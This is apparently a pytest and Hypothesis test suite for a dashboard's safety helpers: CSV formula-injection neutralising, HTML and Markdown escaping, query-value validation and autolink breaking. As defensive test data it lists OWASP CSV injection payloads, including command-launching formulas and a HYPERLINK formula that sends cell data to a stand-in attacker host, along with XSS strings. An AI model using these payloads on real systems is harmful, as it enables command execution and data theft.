"""Property and example tests for dashboard/safety.py (CSV injection, escaping, query parameters)."""

from __future__ import annotations

import csv
import html
import io
import math
import re

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboard.safety import (
    CSV_DANGEROUS_PREFIXES,
    clean_query_value,
    inert_text,
    is_plain_number,
    neutralise_csv_cell,
    neutralise_frame,
    safe_text,
    strip_control_chars,
)

FAST = settings(max_examples=200, deadline=None)
FRAMES = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Text that often starts with a dangerous character, plus arbitrary unicode.
prefixed_text = st.builds(lambda p, s: p + s, st.sampled_from(CSV_DANGEROUS_PREFIXES), st.text(max_size=20))
# A bare CR inside a cell is a row break for a spreadsheet: "x\r=cmd" would start a row with a formula.
embedded_cr = st.builds(
    lambda a, p, b: a + "\r" + p + b, st.text(max_size=8), st.sampled_from("=+-@ "), st.text(max_size=8)
)
cell_text = st.one_of(st.text(max_size=30), prefixed_text, embedded_cr)
plain_numbers = st.one_of(
    st.integers(-(10**9), 10**9).map(str),
    st.floats(allow_nan=False, allow_infinity=False, width=32).map(repr),
    st.floats(allow_nan=False, allow_infinity=False).map(lambda f: f"{f:+.3e}"),
)
finite_floats = st.one_of(st.floats(min_value=-1e12, max_value=1e12), st.just(math.nan))

OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]


def _dangerous(cell: str) -> bool:
    """What a spreadsheet could take for a formula: a dangerous first char, or blanks then a formula char."""
    return cell.startswith(CSV_DANGEROUS_PREFIXES) or re.match(r"[\s\x00]*[=+\-@]", cell) is not None


def _all_numbers(values: pd.Series) -> bool:
    """Independent restatement of the rule: every non-missing value is a number or a plain-number string."""
    return all(
        v is None
        or (isinstance(v, float) and math.isnan(v))
        or (isinstance(v, int | float) and not isinstance(v, bool))
        or (isinstance(v, str) and re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", v, re.A) is not None)
        for v in values.astype(object)
    )


def _read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ---------------------------------------------------------------------------------------- CSV: one cell


@FAST
@given(cell_text)
def test_text_cell_never_starts_with_a_dangerous_char(text: str) -> None:
    out = neutralise_csv_cell(text)
    assert isinstance(out, str) and not _dangerous(out)
    assert "\r" not in out and not re.match(r"[\s\x00]*[=+\-@]", out)
    normalised = text.replace("\r\n", "\n").replace("\r", "\n")
    assert out in {normalised, "'" + normalised}  # only ever prefixed (and CR -> LF), nothing else


@FAST
@given(st.one_of(cell_text, plain_numbers))
def test_numeric_column_only_lets_plain_numbers_through(text: str) -> None:
    out = neutralise_csv_cell(text, numeric_column=True)
    assert not _dangerous(out) or (out == text and is_plain_number(text))


@FAST
@given(st.one_of(finite_floats, st.integers(), st.booleans(), st.none()))
def test_genuine_numbers_and_missing_values_are_untouched(value: object) -> None:
    out = neutralise_csv_cell(value)
    assert out is value or (isinstance(value, float) and math.isnan(value) and math.isnan(out))


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_owasp_payloads_are_neutralised(payload: str) -> None:
    expected = "'" + payload.replace("\r", "\n")
    assert neutralise_csv_cell(payload) == expected
    assert neutralise_csv_cell(payload, numeric_column=True) == expected


def test_blanks_before_a_formula_and_embedded_carriage_returns() -> None:
    assert neutralise_csv_cell(" =1+1") == "' =1+1"
    assert neutralise_csv_cell("\n@SUM(A1)") == "'\n@SUM(A1)"
    assert neutralise_csv_cell("Utrecht\r=cmd|' /C calc'!A0") == "Utrecht\n=cmd|' /C calc'!A0"
    rows = _read_csv(neutralise_frame(pd.DataFrame({"regio": ["Utrecht\r=1+1", "Ede"]})).to_csv(index=False))
    assert rows == [["regio"], ["Utrecht\n=1+1"], ["Ede"]]


@pytest.mark.parametrize("payload", ["\u200b=cmd()", "\ufeff=1+1", "\u2060@SUM(A1)", "\u00a0\u200b+1", "＝1+1",
                                     "＋31", "＠SUM(A1)", "\u3000＝HYPERLINK(1)", "﹦1"])
def test_invisible_or_full_width_formula_prefixes_are_neutralised(payload: str) -> None:
    assert neutralise_csv_cell(payload) == "'" + payload
    rows = _read_csv(neutralise_frame(pd.DataFrame({"regio": [payload, "Ede"]})).to_csv(index=False))
    assert rows[1] == ["'" + payload]


def test_numeric_looking_strings_depend_on_the_column() -> None:
    assert neutralise_csv_cell(-3.5) == -3.5
    assert neutralise_csv_cell("-3.5") == "'-3.5"
    assert neutralise_csv_cell("-3.5", numeric_column=True) == "-3.5"
    assert neutralise_csv_cell("-inf", numeric_column=True) == "'-inf"
    assert neutralise_csv_cell("-1+2", numeric_column=True) == "'-1+2"
    assert neutralise_csv_cell("Noord-Holland") == "Noord-Holland"
    assert neutralise_csv_cell(pd.Timedelta(days=-1)).startswith("'-1 days")


# --------------------------------------------------------------------------------------- CSV: whole frame


@st.composite
def frames(draw: st.DrawFn) -> tuple[pd.DataFrame, set[str]]:
    """A frame with text, numeric, numeric-as-text and mixed columns; returns it and its numeric columns."""
    n = draw(st.integers(min_value=1, max_value=8))
    text = draw(st.lists(st.one_of(cell_text, st.none()), min_size=n, max_size=n))
    numbers = draw(st.lists(finite_floats, min_size=n, max_size=n))
    numeric_text = draw(st.lists(st.one_of(plain_numbers, st.none()), min_size=n, max_size=n))
    mixed = draw(st.lists(st.one_of(cell_text, finite_floats, st.integers(-1000, 1000)), min_size=n, max_size=n))
    label = draw(cell_text)
    df = pd.DataFrame(
        {
            "tekst": pd.Series(text, dtype=object),
            "waarde": pd.Series(numbers, dtype="float64"),
            "waarde_als_tekst": pd.Series(numeric_text, dtype=object),
            "gemengd": pd.Series(mixed, dtype=object),
            "categorie": pd.Categorical([t or "" for t in text]),
            "str_kolom": pd.Series([t if t is not None else None for t in text], dtype="str"),
        }
    )
    label = label or "leeg"
    while label in df.columns:
        label += "_"
    df[label] = range(n)  # a user-ish column label, possibly dangerous
    return df, {"waarde", "waarde_als_tekst"}


@FRAMES
@given(frames())
def test_csv_round_trip_has_no_dangerous_cells_outside_numeric_columns(case: tuple[pd.DataFrame, set[str]]) -> None:
    df, numeric = case
    safe = neutralise_frame(df)
    rows = _read_csv(safe.to_csv(index=False))
    header, body = rows[0], rows[1:]
    assert len(body) == len(df)
    assert not any(_dangerous(cell) for cell in header), header
    for position, name in enumerate(df.columns):
        if name in numeric:
            continue
        numeric_like = _all_numbers(df.iloc[:, position])
        for row_number, row in enumerate(body):
            cell = row[position]
            if not _dangerous(cell):
                continue
            # Only a number may print with a leading sign: a genuine one, or a plain-number string in a
            # column that holds nothing but numbers (the documented rule).
            original = df.iloc[row_number, position]
            assert is_plain_number(cell), (name, cell)
            assert not isinstance(original, str) or numeric_like, (name, cell)


@FRAMES
@given(frames())
def test_neutralise_frame_keeps_numeric_columns_and_shape(case: tuple[pd.DataFrame, set[str]]) -> None:
    df, numeric = case
    safe = neutralise_frame(df)
    assert safe.shape == df.shape
    pd.testing.assert_series_equal(safe["waarde"], df["waarde"])
    assert safe["waarde_als_tekst"].tolist() == df["waarde_als_tekst"].tolist()
    assert df["tekst"].tolist() == [t for t in df["tekst"]]  # the input frame is not modified


def test_frame_example_and_string_index() -> None:
    df = pd.DataFrame(
        {"regio": ["=1+1", "Utrecht"], "waarde": [-3.5, 2.0], "code": ["-3.5", "=x"]},
        index=pd.Index(["@a", "b"], name="sleutel"),
    )
    rows = _read_csv(neutralise_frame(df).to_csv())
    assert rows == [
        ["sleutel", "regio", "waarde", "code"],
        ["'@a", "'=1+1", "-3.5", "'-3.5"],
        ["b", "Utrecht", "2.0", "'=x"],
    ]
    assert df.loc["@a", "regio"] == "=1+1"


# ---------------------------------------------------------------------------------------------- safe_text


def _unescape_markdown(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text, flags=re.S)


@FAST
@given(st.one_of(st.text(), st.builds(lambda a, b: a + "<script>" + b, st.text(), st.text())))
def test_safe_text_has_no_markup(text: str) -> None:
    for markdown in (True, False):
        out = safe_text(text, markdown=markdown)
        assert "<" not in out and ">" not in out and "<script" not in out.lower()
        assert not any(ord(c) < 32 and c not in "\n\t" for c in out)
        assert "\x7f" not in out and "\u202e" not in out


@FAST
@given(st.text())
def test_safe_text_loses_nothing_but_control_chars(text: str) -> None:
    expected = strip_control_chars(text)
    assert html.unescape(safe_text(text, markdown=False)) == expected
    assert _unescape_markdown(html.unescape(safe_text(text))) == expected


def test_safe_text_examples() -> None:
    assert safe_text("<script>alert(1)</script>", markdown=False) == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert safe_text("[klik](javascript:alert(1))") == "\\[klik\\]\\(javascript:alert\\(1\\)\\)"
    assert safe_text("'s-Hertogenbosch") == "&#x27;s\\-Hertogenbosch"
    assert safe_text("a\x00b\x1b[31mc\u202ed\n") == "ab\\[31mcd\n"
    assert safe_text(None) == ""


# --------------------------------------------------------------------------------------- clean_query_value

allowed_values = st.lists(st.one_of(st.text(max_size=8), st.integers(-5, 3000)), min_size=1, max_size=8)
query_values = st.one_of(
    st.none(), st.text(max_size=12), st.integers(), st.lists(st.one_of(st.text(max_size=8), st.none()), max_size=3)
)


@FAST
@given(st.data())
def test_clean_query_value_always_returns_an_allowed_value(data: st.DataObject) -> None:
    allowed = data.draw(allowed_values)
    default = data.draw(st.sampled_from(allowed))
    value = data.draw(st.one_of(query_values, st.sampled_from(allowed)))
    result, message = clean_query_value(value, allowed, default, name="niveau")
    assert any(result is option or result == option for option in allowed)
    if message is not None:
        assert result == default
        assert "<" not in message and ">" not in message


@FAST
@given(allowed_values, st.data())
def test_clean_query_value_accepts_every_allowed_value(allowed: list, data: st.DataObject) -> None:
    choice = data.draw(st.sampled_from(allowed))
    if not str(choice).strip():
        return  # blank means "absent": default
    result, message = clean_query_value(str(choice), allowed, allowed[0])
    assert message is None and str(result) == str(choice)


def test_clean_query_value_examples() -> None:
    levels = ("GM", "CR", "PV")
    assert clean_query_value(None, levels, "GM") == ("GM", None)
    assert clean_query_value("", levels, "GM") == ("GM", None)
    assert clean_query_value(" pv ", levels, "GM") == ("PV", None)
    assert clean_query_value(["GM", "CR"], levels, "GM") == ("CR", None)
    assert clean_query_value("2022", [2021, 2022], 2021) == (2022, None)
    value, message = clean_query_value("<img src=x onerror=alert(1)>" * 3, levels, "GM", name="niveau")
    assert value == "GM" and message is not None
    assert message.startswith("Onbekende waarde") and "niveau" in message and "<" not in message
    assert len(message) < 200
    with pytest.raises(ValueError):
        clean_query_value("GM", levels, "XX")


# --------------------------------------------------------------------------------------------- inert_text

LINKISH = ["https://evil.example/inloggen", "http://evil.example", "www.evil.example", "WWW.evil.example/x",
           "naam@evil.example", "mailto:naam@evil.example", ":skull:", ":material/home:", ":red[rood]",
           "ftp://evil.example"]


@pytest.mark.parametrize("payload", LINKISH)
def test_inert_text_breaks_every_autolink_and_shortcode(payload: str) -> None:
    out = inert_text(payload)
    visible = _unescape_markdown(html.unescape(out)).replace("\u2060", "")
    assert visible == payload, "only invisible word joiners are added"
    assert not re.search(r"https?://|www\.|[\w.+-]@\w|:[\w/+-]+:", out, re.IGNORECASE), out
    assert "](" not in out and "<" not in out


@FAST
@given(st.text(max_size=80))
def test_inert_text_is_short_and_printable(text: str) -> None:
    out = inert_text(text, 20)
    visible = _unescape_markdown(html.unescape(out)).replace("\u2060", "")
    assert len(visible) <= 20
    assert all(ch.isprintable() for ch in visible)
